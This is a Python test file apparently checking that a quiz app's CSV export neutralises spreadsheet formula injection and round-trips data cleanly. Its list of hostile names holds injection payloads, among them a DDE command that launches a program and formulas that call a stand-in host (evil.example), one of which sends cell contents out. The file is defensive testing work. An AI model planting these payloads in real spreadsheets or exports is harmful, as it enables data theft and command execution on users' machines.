"""Tables that spreadsheets open cleanly and cannot be tricked by."""

from __future__ import annotations

import csv
import io

import pytest
from hypothesis import given
from hypothesis import strategies as st

from quizapp.exchange.csv_table import csv_bytes

HOSTILE_NAMES = [
    "=1+1",
    "+1+1",
    "-1+1",
    "@SUM(A1:A9)",
    "=cmd|'/c calc'!A0",
    '=HYPERLINK("http://evil.example","Click")',
    '=IMPORTXML("http://evil.example","//a")',
    '=WEBSERVICE("http://evil.example/"&A1)',
    " =1+1",
    "\u00a0=1+1",
    "\u3000=1+1",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    " \t +1",
    "+49 123 456",
    "-Anna-",
    "@anna",
    "=",
    "x;=1+1;y",
    "x\t=1+1\ty",
    'x",=1+1,"y',
]
FORMULA_STARTS = ("=", "+", "-", "@")

texts = st.text(st.characters(exclude_categories=["Cs"], exclude_characters="\0"), max_size=12)
cells = texts | st.integers(-(10**9), 10**9) | st.floats(allow_nan=False, allow_infinity=False)


def read_back(data: bytes, delimiter: str = ",") -> list[list[str]]:
    """The table as a spreadsheet splits it."""
    text = data.decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text, newline=""), delimiter=delimiter))


def test_there_are_as_many_hostile_names_as_promised():
    assert len(set(HOSTILE_NAMES)) == 22


@pytest.mark.parametrize("name", HOSTILE_NAMES)
@pytest.mark.parametrize("delimiter", [",", ";", "\t"])
def test_no_name_becomes_a_formula_whatever_the_spreadsheet_splits_at(name, delimiter):
    data = csv_bytes(["Learner", "Score"], [[name, 1.0], ["Lena", 0.5]])

    live = [
        cell
        for row in read_back(data, delimiter)
        for cell in row
        if cell.lstrip().startswith(FORMULA_STARTS)
    ]
    assert live == []


@pytest.mark.parametrize("title", HOSTILE_NAMES)
def test_no_title_of_a_column_becomes_a_formula(title):
    header = read_back(csv_bytes(["Learner", title], []))[0]

    assert not [cell for cell in header if cell.lstrip().startswith(FORMULA_STARTS)]


@pytest.mark.parametrize("name", HOSTILE_NAMES)
def test_no_name_is_missing(name):
    (_, row, _) = read_back(csv_bytes(["Learner", "Score"], [[name, 1.0], ["Lena", 0.5]]))

    assert row[0].replace("'", "") == name.replace("'", "")


def test_numbers_stay_numbers():
    data = csv_bytes(["a", "b", "c", "d"], [[-1, -0.5, 1e-7, None]])

    assert read_back(data)[1] == ["-1", "-0.5", "1e-07", ""]


def test_the_file_begins_with_a_byte_order_mark_and_lines_end_in_crlf():
    data = csv_bytes(["Learner", "Score"], [["Zoë", 1.5]])

    assert data == b"\xef\xbb\xbfLearner,Score\r\nZo\xc3\xab,1.5\r\n"


def test_a_table_without_rows_is_its_header():
    assert csv_bytes(["Learner"], []) == b"\xef\xbb\xbfLearner\r\n"


def test_rows_may_come_one_by_one():
    assert len(read_back(csv_bytes(["n"], ([n] for n in range(100))))) == 101


@given(st.lists(st.tuples(cells, cells), max_size=5))
def test_what_is_written_is_read_back(rows):
    data = csv_bytes(["first", "second"], rows)

    found = read_back(data)[1:]
    assert len(found) == len(rows)
    for row, cells in zip(rows, found, strict=True):
        for given_cell, cell in zip(row, cells, strict=True):
            if isinstance(given_cell, str):
                assert cell.replace("'", "") == given_cell.replace("'", "")
            else:
                assert float(cell) == given_cell


@given(texts)
def test_no_text_becomes_a_formula(text):
    ((cell, _),) = read_back(csv_bytes(["a", "b"], [[text, 1]]))[1:]

    assert not cell.lstrip().startswith(FORMULA_STARTS)


@given(st.text(st.characters(categories=["L", "Nd"]), min_size=1, max_size=12))
def test_plain_text_is_left_as_it_is(text):
    ((cell, _),) = read_back(csv_bytes(["a", "b"], [[text, 1]]))[1:]

    assert cell == text
